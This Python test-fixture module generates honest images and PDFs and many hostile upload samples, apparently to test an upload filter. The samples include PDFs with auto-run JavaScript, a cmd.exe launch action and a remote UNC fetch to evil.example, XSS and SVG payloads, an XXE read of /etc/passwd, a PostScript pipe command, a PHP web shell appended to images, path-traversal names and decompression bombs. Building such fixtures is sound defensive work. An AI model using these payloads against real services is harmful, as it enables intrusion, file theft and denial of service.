"""Files that somebody would send to do harm, and the honest ones they are made from."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

SCRIPT = b"<script>alert(document.domain)</script>"
GPS = 0x8825


# Honest


def picture(kind="JPEG", size=(900, 600), **options) -> bytes:
    image = Image.radial_gradient("L").resize(size).convert("RGB")
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def picture_with_place(size=(900, 600), orientation=1) -> bytes:
    """A photograph that says where it was taken and by whom."""
    exif = Image.Exif()
    exif[0x010E] = "Ann Other at school"
    exif[0x0112] = orientation
    exif.get_ifd(GPS)[2] = (52.0, 28.0, 46.0)
    return picture("JPEG", size, exif=exif, comment=b"Ann Other")


def pdf(pages=2, change: Callable[[PdfWriter], object] = lambda writer: None, **metadata) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if metadata:
        writer.add_metadata({f"/{name}": value for name, value in metadata.items()})
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_that_says(text: str) -> bytes:
    stream = DecodedStreamObject()
    stream.set_data(f"BT ({text}) Tj ET".encode())
    return pdf(1, on_page("/Contents", stream))


# Hostile PDFs


def action(kind: str, **more) -> DictionaryObject:
    entries = {NameObject("/S"): NameObject(kind)}
    entries |= {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
    return DictionaryObject(entries)


def on_root(key: str, value) -> Callable[[PdfWriter], object]:
    return lambda writer: writer._root_object.update({NameObject(key): value})


def on_page(key: str, value) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.pages[0].update({NameObject(key): value})


def annotation(**entries) -> ArrayObject:
    return ArrayObject(
        [DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})]
    )


def behind_a_reference(writer: PdfWriter) -> None:
    reference = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    deeper = writer._add_object(ArrayObject([reference]))
    writer._root_object[NameObject("/Harmless")] = deeper


def in_a_name_tree(writer: PdfWriter) -> None:
    script = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    names = DictionaryObject({NameObject("/JavaScript"): tree})
    writer._root_object[NameObject("/Names")] = names


def with_stream(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(SCRIPT)
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    writer._root_object[NameObject("/Extra")] = writer._add_object(stream)


ACTIVE = {
    "opens with a script": on_root("/OpenAction", action("/JavaScript", JS="app.alert(1)")),
    "opens with a program": on_root("/OpenAction", action("/Launch", F="cmd.exe")),
    "opens a far file": on_root("/OpenAction", action("/GoToR", F="\\\\evil.example\\x")),
    "imports": on_root("/OpenAction", action("/ImportData", F="x")),
    "script behind a reference": behind_a_reference,
    "script in a name tree": in_a_name_tree,
    "document actions": on_root("/AA", DictionaryObject()),
    "page actions": on_page("/AA", DictionaryObject()),
    "link to a script": on_page("/Annots", annotation(A=action("/URI", URI="javascript:alert(1)"))),
    "link to a file": on_page("/Annots", annotation(A=action("/URI", URI="file:///etc/passwd"))),
    "button with a script": on_page(
        "/Annots", annotation(A=action("/JavaScript", JS="app.alert(1)"))
    ),
    "sends what is typed": on_page("/Annots", annotation(A=action("/SubmitForm", F="x"))),
    "attached file": lambda writer: writer.add_attachment("a.html", SCRIPT),
    "file note": on_page("/Annots", annotation(Subtype=NameObject("/FileAttachment"))),
    "film": on_page("/Annots", annotation(Subtype=NameObject("/RichMedia"))),
    "XFA form": on_root(
        "/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    ),
    "embedded stream": with_stream,
    "locked": lambda writer: writer.encrypt("secret"),
    "next action": on_root(
        "/OpenAction",
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/Next"): action("/JavaScript", JS="app.alert(1)"),
            }
        ),
    ),
}


# Bombs


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_of(width: int, height: int, *chunks: bytes) -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + png_chunk(b"IEND", b"")


def text_bomb() -> bytes:
    packed = zlib.compress(b"a" * 100_000_000, 9)
    return png_of(10, 10, png_chunk(b"zTXt", b"k\x00\x00" + packed))


# All of them


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """Each with what it is, the name under which it is sent, and its bytes.

    None of them may be stored, whether it is sent as a picture or as a PDF.
    """
    yield from active_pages()
    yield from other_formats()
    yield from polyglots()
    yield from broken()
    for what, change in ACTIVE.items():
        for pages in (1, 2, 3):
            yield f"PDF, {what}, {pages} pages", "letter.pdf", pdf(pages, change)


def active_pages() -> Iterator[tuple[str, str, bytes]]:
    names = (
        "x.html",
        "x.png",
        "x.jpg",
        "x.webp",
        "x.pdf",
        "x.svg",
        "x.png.html",
        "../x.html",
        "x.php",
    )
    pages = {
        "HTML": b"<!doctype html><html>" + SCRIPT,
        "script": SCRIPT,
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>',
        "XHTML": b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>',
        "JavaScript": b"alert(document.domain)",
        "UTF-16": SCRIPT.decode().encode("utf-16"),
        "UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "MHTML": b"From: x\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
        "empty": b"",
    }
    for what, data in pages.items():
        for name in names:
            yield f"{what} as {name}", name, data


def other_formats() -> Iterator[tuple[str, str, bytes]]:
    for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "DIB", "SGI"):
        data = picture(kind, (60, 40))
        for name in (f"x.{kind.lower()}", "x.png", "x.pdf"):
            yield f"{kind} as {name}", name, data
    begins = {
        "ZIP": b"PK\x03\x04",
        "ELF": b"\x7fELF\x02\x01\x01",
        "EXE": b"MZ\x90\x00",
        "Flash": b"CWS\x0a",
        "PostScript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n",
        "HEIC": b"\x00\x00\x00\x18ftypheic",
        "GZIP": b"\x1f\x8b\x08\x00",
        "Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "EICAR": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    }
    for what, data in begins.items():
        for name in ("x.png", "x.pdf", "x.svg"):
            yield f"{what} as {name}", name, data + bytes(200)


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    honest = {kind: picture(kind, (60, 40)) for kind in ("PNG", "JPEG", "WEBP")}
    for kind, data in honest.items():
        for what, tail in {
            "HTML after it": b"<html>" + SCRIPT,
            "script after it": SCRIPT,
            "PDF after it": pdf(1),
            "PHP after it": b"<?php system($_GET[0]);",
            "SVG after it": b"<svg onload=alert(1)>",
        }.items():
            for name in ("x.html", f"x.{kind.lower()}"):
                yield f"{kind} with {what} as {name}", name, data + tail
        yield f"PDF after {kind}", "x.pdf", data + pdf(1)
    yield "JPEG with HTML in its comment", "x.jpg", picture("JPEG", comment=b"<html>" + SCRIPT)
    gif = b"GIF89a/*\x00\x00*/=1;alert(1)//"
    yield "GIF that is a script", "x.gif", gif
    yield "GIF that is a script, as PNG", "x.png", gif
    document = pdf(1)
    for what, head in {"GIF": gif, "HTML": b"<html>" + SCRIPT, "ZIP": b"PK\x03\x04"}.items():
        yield f"PDF after {what}", "x.pdf", head + document
    for what, tail in {"HTML": SCRIPT, "ZIP": b"PK\x03\x04" + bytes(30), "text": b"x"}.items():
        yield f"PDF before {what}", "x.pdf", document + tail
    yield "PDF with a second end", "x.pdf", document + b"<html>" + SCRIPT + b"%%EOF"


def broken() -> Iterator[tuple[str, str, bytes]]:
    for kind in ("PNG", "JPEG", "WEBP"):
        data = picture(kind, (600, 400))
        for share in (0.01, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95):
            yield f"{share:.0%} of a {kind}", f"x.{kind.lower()}", data[: int(len(data) * share)]
        yield f"head of a {kind} before HTML", f"x.{kind.lower()}", data[:40] + SCRIPT
    document = pdf(3)
    for share in (0.01, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.98):
        yield f"{share:.0%} of a PDF", "x.pdf", document[: int(len(document) * share)]
    yield "PDF without pages", "x.pdf", pdf(0)
    yield "PDF of nothing", "x.pdf", b"%PDF-1.7\nstartxref\n0\n%%EOF"
    yield "PDF that leads astray", "x.pdf", document.replace(b"startxref\n", b"startxref\n9")[:-9]
    yield "PDF with a loop", "x.pdf", document.replace(b"/Kids", b"/Parent 1 0 R /Kids", 1)[:-7]
    for width, height in ((100_000, 100_000), (30_000, 30_000), (7_000, 7_000), (2**31 - 1, 1)):
        yield f"PNG that says {width} by {height}", "x.png", png_of(width, height)
    yield "PNG with a text bomb", "x.png", text_bomb()
    yield "PNG of no size", "x.png", png_of(0, 0)
    whole = zlib.compress(bytes(7_000 * (7_000 // 8 + 1)), 9)
    yield "PNG bomb, whole", "x.png", png_of(7_000, 7_000, png_chunk(b"IDAT", whole))
    yield "too large a picture", "x.jpg", picture() + bytes(5 * 1024 * 1024)
    yield "too large a PDF", "x.pdf", document + bytes(10 * 1024 * 1024)
